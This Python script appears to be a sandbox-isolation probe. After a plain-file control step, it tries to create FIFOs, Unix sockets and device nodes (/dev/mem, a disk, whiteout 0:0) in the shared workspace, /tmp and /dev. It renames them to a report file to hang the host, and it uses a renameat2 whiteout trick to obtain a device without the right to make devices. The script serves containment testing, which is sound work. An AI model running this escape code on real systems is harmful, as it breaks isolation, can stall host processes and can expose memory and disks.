"""Makes a FIFO, a socket and devices in the workspace where the host opens and lists files.

Layer: files
Escape: the host hangs on one of them, or a device can be made
Control: a plain file can be made there
"""

# control
import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)


def tried(name, *args):
    """The result of a C function, and the name of its error."""
    ctypes.set_errno(0)
    result = getattr(libc, name)(*args)
    return result, errno.errorcode.get(ctypes.get_errno(), "")


os.makedirs("inbox", exist_ok=True)
open("inbox/plain", "w").write("x") == 1

# attack
import socket
import stat

loot = []
for name, mode, device in (
    ("fifo", stat.S_IFIFO, 0),
    ("null", stat.S_IFCHR, os.makedev(1, 3)),
    ("mem", stat.S_IFCHR, os.makedev(1, 1)),
    ("disk", stat.S_IFBLK, os.makedev(254, 0)),
    ("sock", stat.S_IFSOCK, 0),
    ("white", stat.S_IFCHR, 0),
):
    for where in ("inbox/", "/tmp/", "/dev/"):
        try:
            os.mknod(where + name, mode | 0o666, device)
            if stat.S_ISCHR(mode) or stat.S_ISBLK(mode):
                loot.append(f"ESCAPED: made {name}")
            if where == "inbox/":
                os.rename(where + name, "inbox/report.txt")
        except OSError as error:
            loot.append(error.errno)
try:
    os.mkfifo("inbox/report.txt")
except OSError as error:
    loot.append(error.errno)
try:
    socket.socket(socket.AF_UNIX).bind("inbox/report.txt")
except OSError as error:
    loot.append(error.errno)
# A rename that leaves a whiteout makes a character device of number 0:0, without any right to make devices.
open("inbox/w", "w").close()
loot.append(tried("renameat2", -100, b"inbox/w", -100, b"inbox/x", 4))
loot
